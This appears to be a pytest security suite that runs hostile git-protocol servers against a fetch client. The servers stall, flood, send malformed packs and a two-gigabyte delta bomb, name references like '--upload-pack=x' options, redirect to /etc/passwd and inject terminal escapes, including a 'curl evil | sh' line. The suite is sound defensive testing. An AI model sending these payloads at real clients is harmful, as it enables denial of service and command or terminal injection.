# ruff: noqa: E501 - tables read best one server a line
"""Servers of the git protocol that lie, stall, flood or speak something else; each a few lines behind a real socket."""

from __future__ import annotations

import hashlib
import os
import resource
import shutil
import socket
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from dataclasses import dataclass
from typing import IO

import pytest

from envagent.repository.fetch import Limits
from tests.kit.servers import serving
from tests.security.build import FILE, Repository, pack, packed
from tests.security.conftest import README, Bench

FLUSH, DELIMITER = b"0000", b"0001"
Serve = Callable[[socket.socket, Repository], None]


def line(data: bytes | str) -> bytes:
    """One pkt-line."""
    raw = data.encode() if isinstance(data, str) else data
    return b"%04x" % (len(raw) + 4) + raw


def requests(stream: IO[bytes]) -> Iterator[bytes]:
    """What the client sends up to each flush."""
    gathered = b""
    while head := stream.read(4):
        length = int(head, 16)
        if length == 0:
            yield gathered
            gathered = b""
        elif length > 4:
            gathered += stream.read(length - 4)


GREETING = b"".join(
    line(f"{one}\n") for one in ("version 2", "agent=git/x", "ls-refs", "fetch=shallow filter", "object-format=sha1")
)


def converse(client: socket.socket, repository: Repository, *, refs: bytes | None = None, body: bytes = b"") -> None:
    """Speak the protocol up to the pack, which is `body`; any answer may be replaced."""
    tip = (repository.git / "refs/heads/main").read_text().strip()
    stream = client.makefile("rb")
    # Git writes a line's length and its text by themselves: what one recv gives may end between them.
    stream.read(int(stream.read(4), 16) - 4)
    client.sendall(GREETING + FLUSH)
    for request in requests(stream):
        if request.startswith(b"command=ls-refs"):
            client.sendall((refs if refs is not None else line(f"{tip} HEAD\n")) + FLUSH)
        else:
            shallow = line("shallow-info\n") + line(f"shallow {tip}\n") + DELIMITER if b"deepen" in request else b""
            client.sendall(shallow + line("packfile\n") + body)
            return


def bands(data: bytes, band: bytes = b"\1") -> bytes:
    return b"".join(line(band + data[at : at + 60_000]) for at in range(0, len(data), 60_000))


def sends(make: Callable[[Repository], bytes]) -> Serve:
    """A server that is right in all but its pack."""
    return lambda client, repository: converse(client, repository, body=bands(make(repository)) + FLUSH)


def says(data: bytes, *, wait: float = 0.0) -> Serve:
    """A server that sends this and then waits or leaves."""

    def serve(client: socket.socket, _: Repository) -> None:
        client.sendall(data)
        client.recv(4096)
        time.sleep(wait)

    return serve


def floods(first: bytes, again: bytes, *, after_request: bool = False) -> Serve:
    """A server that never stops."""

    def serve(client: socket.socket, _: Repository) -> None:
        client.recv(4096)
        client.sendall(first)
        if after_request:
            client.recv(4096)
        while True:
            client.sendall(again)

    return serve


def drips(client: socket.socket, _: Repository) -> None:
    for at in range(len(GREETING)):
        client.sendall(GREETING[at : at + 1])
        time.sleep(0.1)


def endless_pack(client: socket.socket, repository: Repository) -> None:
    def go_on() -> Iterator[bytes]:
        yield b"PACK" + struct.pack(">II", 2, 100_000)
        while True:
            yield packed(3, os.urandom(50_000))

    converse(client, repository)
    for piece in go_on():
        client.sendall(bands(piece))


def endless_progress(client: socket.socket, repository: Repository) -> None:
    converse(client, repository)
    while True:
        client.sendall(bands(b"\x1b[2Jworking\r" * 900, b"\2"))


def delta_bomb(repository: Repository) -> bytes:
    """Sixteen megabytes of zeros, and 500 bytes that copy them until two gigabytes are there."""
    size, target = 16 << 20, 2 << 30
    copies = (b"\xf0\xff\xff\xff" * (target // 0xFFFFFF + 1))[: 4 * (target // 0xFFFFFF)]
    target = 0xFFFFFF * (target // 0xFFFFFF)
    base = packed(3, bytes(size))
    distance, offset = len(base), b""
    offset = bytes([distance & 127])
    while distance := distance >> 7:
        distance -= 1
        offset = bytes([128 | distance & 127]) + offset
    body = b"PACK" + struct.pack(">II", 2, 2) + base + packed(6, length(size) + length(target) + copies, prefix=offset)
    return body + hashlib.sha1(body).digest()


def length(value: int) -> bytes:
    out = b""
    while True:
        out += bytes([value & 127 | (128 if value > 127 else 0)])
        value >>= 7
        if not value:
            return out


def orphan_delta(_: Repository) -> bytes:
    body = b"PACK" + struct.pack(">II", 2, 1) + packed(7, length(5) + length(5) + b"\x90\x05", prefix=b"\x11" * 20)
    return body + hashlib.sha1(body).digest()


def everything(repository: Repository) -> bytes:
    return pack(repository.objects.values())


def trees_alone(repository: Repository) -> bytes:
    return pack(row for row in repository.objects.values() if row[0] == "tree")


def commit_alone(repository: Repository) -> bytes:
    return pack(row for row in repository.objects.values() if row[0] == "commit")


def something_else(_: Repository) -> bytes:
    return pack([("blob", b"not what was asked for")])


def huge_entry(_: Repository) -> bytes:
    body = b"PACK" + struct.pack(">II", 2, 1) + packed(3, b"x", size=1 << 50)
    return body + hashlib.sha1(body).digest()


SHORT, LONG = Limits(seconds=0.8), Limits(seconds=15)


@dataclass(frozen=True)
class Server:
    """How it serves, and limits under which its client is to end."""

    serve: Serve
    limits: Limits = LONG
    words: str = ""


OID = b"1" * 40
SERVERS = {
    "never answers": Server(says(b"", wait=5), SHORT, "took too long"),
    "drips": Server(drips, SHORT, "took too long"),
    "stops in the middle of a line": Server(says(b"fff0version 2", wait=5), SHORT, "took too long"),
    "leaves at once": Server(lambda client, _: client.close()),
    "leaves after the greeting": Server(says(GREETING + FLUSH)),
    "sends garbage": Server(says(bytes(range(256)) * 40)),
    "sends zeros": Server(says(bytes(100_000))),
    "speaks HTTP": Server(says(b"HTTP/1.1 302 Found\r\nLocation: file:///etc/passwd\r\nContent-Length: 0\r\n\r\n")),
    "speaks HTML": Server(says(b"<html><script>alert(1)</script></html>")),
    "says an error": Server(says(line("ERR access denied or repository not exported: /x")), words="no public repository"),
    "says an error with escapes": Server(says(line("ERR \x1b]0;owned\x07\x1b[2Jfatal: run curl evil | sh\r\n"))),
    "says an endless error": Server(floods(b"", line("ERR " + "x" * 60_000)), SHORT),
    "says a negative length": Server(says(b"-001")),
    "says a length of two": Server(says(b"0002")),
    "speaks a version of the future": Server(says(line("version 9\n") + FLUSH)),
    "floods with capabilities": Server(floods(line("version 2\n"), line("x" * 60_000)), SHORT),
    "floods with references": Server(floods(GREETING + FLUSH, line(OID + b" refs/heads/" + b"x" * 200 + b"\n") * 200, after_request=True), SHORT),
    "names references that climb": Server(lambda c, r: converse(c, r, refs=line(OID + b" ../../../x\n"))),
    "names references like options": Server(lambda c, r: converse(c, r, refs=line(OID + b" --upload-pack=x\n"))),
    "names a reference with controls": Server(lambda c, r: converse(c, r, refs=line(OID + b" HEAD\x1b[2J\n"))),
    "names no reference": Server(lambda c, r: converse(c, r, refs=b""), words="no commits"),
    "names branches like options": Server(lambda c, r: converse(c, r, refs=line(OID + b" refs/heads/--upload-pack=x\n"))),
    "names branches with controls": Server(lambda c, r: converse(c, r, refs=line(OID + b" refs/heads/x\x1b[2J\n"))),
    "names branches for ever, and no HEAD": Server(floods(GREETING + FLUSH, line(OID + b" refs/heads/" + b"x" * 200 + b"\n") * 200, after_request=True), SHORT),
    "gives no id": Server(lambda c, r: converse(c, r, refs=line("HEAD HEAD\n"))),
    "sends an empty pack": Server(sends(lambda _: pack([]))),
    "sends nothing for a pack": Server(sends(lambda _: b"")),
    "sends half a pack": Server(sends(lambda r: everything(r)[:-40])),
    "sends a pack with a wrong sum": Server(sends(lambda r: everything(r)[:-20] + bytes(20))),
    "sends a garbage pack": Server(sends(lambda _: os.urandom(50_000))),
    "claims four billion objects": Server(sends(lambda r: pack(r.objects.values(), claimed=2**32 - 1))),
    "sends something else": Server(sends(something_else)),
    "sends trees without the commit": Server(sends(trees_alone)),
    "sends the commit without its tree": Server(sends(commit_alone)),
    "sends a delta without its base": Server(sends(orphan_delta)),
    "sends a delta of two gigabytes": Server(sends(delta_bomb)),
    "sends a file of a petabyte": Server(sends(huge_entry)),
    "sends an endless pack": Server(endless_pack, Limits(seconds=15, transfer_bytes=3 << 20), "more than 3 MB"),
    "sends endless progress": Server(endless_progress, SHORT),
    "fails in the middle": Server(lambda c, r: converse(c, r, body=bands(b"\x1b[31mdisk full\x1b[0m", b"\3"))),
}  # fmt: skip


def hosting(serve: Serve, repository: Repository) -> AbstractContextManager[int]:
    """Serve a repository in this way; gives the port."""
    return serving(lambda client: serve(client, repository))


@pytest.mark.parametrize("server", SERVERS.values(), ids=SERVERS.keys())
def test_hostile_server(bench: Bench, monkeypatch: pytest.MonkeyPatch, server: Server) -> None:
    monkeypatch.setattr("envagent.repository.fetch.RETRY_AFTER_SECONDS", 0.05)
    repository = bench.repository()
    repository.commit_files({"README.md": README})
    with hosting(server.serve, repository) as port:
        reading = bench.read(f"git://127.0.0.1:{port}/x", limits=server.limits)
    assert reading.refusal is not None
    assert server.words in reading.said
    assert all(c.isprintable() or c == "\n" for c in reading.said), "its controls would reach the terminal"
    assert len(reading.said) < 2000


def test_flood_does_not_fill_the_memory(bench: Bench) -> None:
    """Git keeps every line of a greeting; a fast server could send more than the machine holds."""
    repository = bench.repository()
    with hosting(SERVERS["floods with capabilities"].serve, repository) as port:
        reading = bench.read(f"git://127.0.0.1:{port}/x", limits=Limits(seconds=30))
    assert reading.refusal is not None
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss < 900 << 10
    assert "memory" in reading.said, "it went on to the deadline"


def test_old_git_does_not_go_in_circles(bench: Bench, monkeypatch: pytest.MonkeyPatch) -> None:
    """A git that does not know GIT_NO_LAZY_FETCH asks for the missing base again, and so does the git that asks."""
    program = bench.root / "bin" / "git"
    program.parent.mkdir()
    program.write_text(f'#!/bin/sh\nunset GIT_NO_LAZY_FETCH\nexec {shutil.which("git")} "$@"\n')
    program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{program.parent}:/usr/bin:/bin")
    repository = bench.repository()
    repository.commit_files({"README.md": README})
    with hosting(sends(orphan_delta), repository) as port:
        reading = bench.read(f"git://127.0.0.1:{port}/x", limits=LONG)
    assert "keeps omitting" in reading.said
    assert reading.seconds < LONG.seconds


def test_server_that_sends_more_than_asked(bench: Bench) -> None:
    """The same server, telling the truth, is read: the refusals above are for what each does wrong."""
    repository = bench.repository()
    repository.commit_files({"README.md": README}, (FILE, "main.py", repository.blob("import os\n")))
    with hosting(sends(everything), repository) as port:
        reading = bench.read(f"git://127.0.0.1:{port}/x")
    assert reading.snapshot is not None, reading.said
    assert reading.snapshot.files == {"README.md": README, "main.py": "import os\n"}


def test_passing_failure_is_tried_again(bench: Bench, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("envagent.repository.fetch.RETRY_AFTER_SECONDS", 0.05)
    repository = bench.repository()
    repository.commit_files({"README.md": README})
    seen: list[int] = []

    def serve(client: socket.socket, built: Repository) -> None:
        seen.append(1)
        (sends(everything) if len(seen) > 1 else sends(lambda r: everything(r)[:-40]))(client, built)

    with hosting(serve, repository) as port:
        assert bench.read(f"git://127.0.0.1:{port}/x").paths == ["README.md"]
    assert len(seen) == 2
